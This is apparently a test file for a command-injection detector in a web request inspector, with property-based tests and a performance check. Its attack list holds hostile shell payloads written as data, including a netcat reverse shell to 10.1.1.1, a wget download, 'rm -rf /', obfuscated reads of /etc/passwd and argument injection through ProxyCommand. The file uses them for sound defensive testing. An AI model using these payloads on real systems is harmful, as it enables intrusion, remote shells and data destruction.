import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { strengthIn } from '../../fixtures/strength-in.ts';
import { inspectRequest } from '../../inspect-request.ts';

const families = ['shell', 'webshell'];

const attacks = [
  '10.1.1.1\nid',
  '10.1.1.1 & dir c:\\',
  "'; ls -la /; '",
  'x;echo $((12*12))',
  'x|type %SYSTEMROOT%\\win.ini',
  'a;cd /tmp;wget http://10.1.1.1/m',
  '&& net user guest /active:yes',
  ";w'h'o'am'i",
  ";$'\\x63at' /var/log/dmesg",
  ';cat $' + '{HOME:0:1}etc$' + '{HOME:0:1}passwd',
  'f.txt;rm -rf /',
  '|nc -e /bin/sh 10.1.1.1 99',
  "python3 -c 'import socket,os;s=socket.socket();os.dup2(s.fileno(),0)'",
  'x -oProxyCommand=touch$' + '{IFS}y',
  'w^h^o^a^m^i & w^h^o^a^m^i',
  "'|id|'",
  "jug'$(id)'lid",
  ';ping `hostname`.a.test',
  "$(rev<<<'di')",
  ';x=c;y=at;$x$y /srv/jug',
  'ssh://-oProxyCommand=x/jug',
  '3 | ps -ef',
];

const harmless = [
  'Smith & Sons; find out more',
  'price $5 | $10 | more',
  '| Name | Type | Sort | Date |',
  'sort=name;date',
  'ps aux & friends',
  'skills: git, docker; node, npm',
  'select `id`, `name` from `users`',
  'https://shop.test/a?x=1&id',
  'x > 5 && y < 3',
  "' || sleep(5) -- ",
  'Dear all,\nfind attached the file\nmore later',
  '{ user {\n id\n name\n date\n } }',
  '$(document).ready(function(){ go(); });',
  'position: fixed; top: 0; cursor: move',
  'left | right | top',
  'a=1;b=2;total = $a + $b',
  'jug|nc>lid',
];

describe('the reader of shells', () => {
  for (const text of attacks) {
    it(`finds ${JSON.stringify(text)}`, () => assert.equal(strengthIn(text, families), 'clear'));
  }
  for (const text of harmless) {
    it(`leaves ${JSON.stringify(text)}`, () => assert.equal(strengthIn(text, families), undefined));
  }

  it('finds less in texts that show commands to people', () => {
    const post = `To see who may log in, open a terminal on the server and run \`cat /etc/passwd\`, then read it.`;
    assert.equal(strengthIn(post, families), 'weak');
  });

  it('finds a command behind any value that was complete, in encodings that servers undo', () => {
    const starts = fc.constantFrom(';', '|', '||', '&&', '; ', ' | ', '&& ');
    const commands = fc.constantFrom(
      'whoami',
      'cat /etc/hosts',
      'curl http://h.example',
      'sleep 7',
    );
    fc.assert(
      fc.property(
        fc.nat(9999),
        starts,
        commands,
        fc.integer({ min: 0, max: 2 }),
        (n, start, command, rounds) => {
          let text = `${n}${start}${command}`;
          for (let round = 0; round < rounds; round += 1) text = encodeURIComponent(text);
          assert.equal(strengthIn(text, families), 'clear');
        },
      ),
    );
  });

  it('finds nothing in words with punctuation', () => {
    const word = fc
      .stringMatching(/^[a-z]{1,8}$/)
      .filter((text) => !/^(?:ls|ps|id|env|dir|pwd|uname|ss|arp)$/.test(text));
    const mark = fc.constantFrom(', ', '. ', '; ', ' & ', ' | ', ': ', ' - ');
    fc.assert(
      fc.property(fc.array(fc.tuple(word, mark), { minLength: 1, maxLength: 12 }), (parts) => {
        const text = parts.flat().join('');
        assert.equal(strengthIn(text, families), undefined, text);
      }),
    );
  });

  it('does bounded work on hostile input', () => {
    for (const piece of [';', '`', '$(', ";c'", ';sh -c ', '|cat ', ';$@', "';", ';{a,']) {
      const text = piece.repeat(Math.ceil(200_000 / piece.length));
      const value = { place: 'form', name: 'x', text, encoding: 'none' } as const;
      const { steps } = inspectRequest({
        method: 'POST',
        version: 'HTTP/1.1',
        values: [value],
        gaps: [],
      });
      assert.ok(steps <= 8_000_000, `${piece}: ${steps}`);
    }
  });
});
